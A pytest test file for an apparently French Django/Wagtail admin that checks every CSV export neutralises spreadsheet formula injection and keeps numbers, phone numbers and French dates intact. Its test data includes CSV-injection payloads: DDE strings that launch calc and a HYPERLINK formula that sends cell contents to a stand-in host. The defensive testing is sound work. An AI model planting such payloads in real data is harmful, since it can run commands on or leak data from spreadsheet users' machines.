"""Every CSV the admin hands out, opened as a spreadsheet would open it, after a visitor typed formulas.

A name such as `=HYPERLINK(...)` or `@SUM(...)` typed in a public form must reach the team's
spreadsheet as text, never as a formula; `-25,00` and `+33 6 12 34 56 78` stay as typed.
"""

import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import FieldDoesNotExist
from django.core.management import call_command
from django.db import models
from django.urls import get_resolver, reverse
from wagtail.admin.viewsets import viewsets

from raccord.core import exports
from raccord.core.admin_exports import FrenchSpreadsheetExportMixin

HOSTILE = [
    (
        '=HYPERLINK("https://x.example/?d="&A1;"Voir")',
        '\'=HYPERLINK("https://x.example/?d="&A1;"Voir")',
    ),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-25,00", "-25,00"),
    ("+33 6 12 34 56 78", "+33 6 12 34 56 78"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
]


def _read(response) -> tuple[bytes, list[list[str]]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def runs_in_a_spreadsheet(value: str) -> bool:
    starts = value[:1] in exports.FORMULA_STARTS
    return starts and exports.neutralise(value) != value


# --- the writer ----------------------------------------------------------------------------


@pytest.mark.parametrize(("typed", "written"), HOSTILE)
def test_a_cell_that_would_run_is_quoted_and_numbers_stay_as_typed(typed, written):
    assert exports.cell(typed) == written


@pytest.mark.parametrize("number", ["-25,00", "-25.00", "+12", "-1 234,50", "+33 6 12 34 56 78"])
def test_numbers_and_phone_numbers_are_left_alone(number):
    assert exports.neutralise(number) == number


def test_values_read_as_a_french_spreadsheet_expects():
    utc = datetime.datetime(2025, 3, 9, 17, 5, 42, 123456, tzinfo=datetime.UTC)
    assert exports.cell(utc) == "09/03/2025 18:05"
    summer = datetime.datetime(2025, 7, 1, 16, 0, tzinfo=datetime.UTC)
    assert exports.cell(summer) == "01/07/2025 18:00"
    assert exports.cell(datetime.date(2026, 4, 20)) == "20/04/2026"
    assert exports.cell(True) == "Oui" and exports.cell(False) == "Non"
    assert exports.cell(None) == ""
    text = exports.csv_text(["Nom", "Montant"], [["Ana", 3.5]])
    assert text == "\ufeffNom;Montant\r\nAna;3,5\r\n"


# --- every admin listing with list_export ---------------------------------------------------


def listings_with_export():
    get_resolver().resolve("/admin/")  # the admin's viewsets register while its URLs load
    found = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(getattr(viewset, "list_export", None), list | tuple) and viewset.list_export
    ]
    assert len(found) >= 10
    return found


def test_every_listing_with_an_export_goes_through_the_one_writer():
    for viewset in listings_with_export():
        assert issubclass(viewset.index_view_class, FrenchSpreadsheetExportMixin), viewset


def _typed_fields(viewset) -> list[models.Field]:
    """The exported text columns a visitor or a volunteer types into."""
    fields = []
    for name in viewset.list_export:
        try:
            field = viewset.model._meta.get_field(name)
        except FieldDoesNotExist:
            continue
        if isinstance(field, models.CharField | models.TextField) and not field.choices:
            fields.append(field)
    return fields


@pytest.fixture
def team(client, db):
    user = get_user_model().objects.create_superuser("equipe", "equipe@exemple.org", "pw")
    client.force_login(user)
    return client


def test_no_admin_export_carries_a_cell_that_would_run(team):
    from raccord.people import services as people

    call_command("load_demo", stdout=io.StringIO())
    # The contact form is the one listing the demo leaves empty: an attacker fills it.
    people.receive_message(
        name="=HYPERLINK(1)",
        email="attaque@example.org",
        subject="@SUM(1+1)",
        message="+cmd|' /C calc'!A0",
        consent_wording="J’accepte.",
    )
    checked = 0
    for viewset in listings_with_export():
        row = viewset.model.objects.order_by("pk").first()
        assert row is not None, f"nothing to export in {viewset.model.__name__}"
        typed = {}
        for n, field in enumerate(_typed_fields(viewset)):
            value, _ = HOSTILE[n % len(HOSTILE)]
            typed[field.name] = value[: field.max_length] if field.max_length else value
        assert typed, f"no text column in the export of {viewset.model.__name__}"
        viewset.model.objects.filter(pk=row.pk).update(**typed)

        response = team.get(reverse(viewset.get_url_name("index")), {"export": "csv"})
        assert response.status_code == 200, viewset
        body, rows = _read(response)
        assert body.startswith(b"\xef\xbb\xbf"), viewset
        cells = [cell for line in rows for cell in line]
        assert not [c for c in cells if runs_in_a_spreadsheet(c)], viewset
        for value in typed.values():
            assert exports.cell(value) in cells, (viewset.model.__name__, value)
        checked += 1
    assert checked == len(listings_with_export())


def test_the_admin_asks_no_third_party_for_avatars(team, settings):
    assert settings.WAGTAIL_GRAVATAR_PROVIDER_URL is None
    html = team.get("/admin/").content.decode()
    assert "gravatar" not in html.lower()
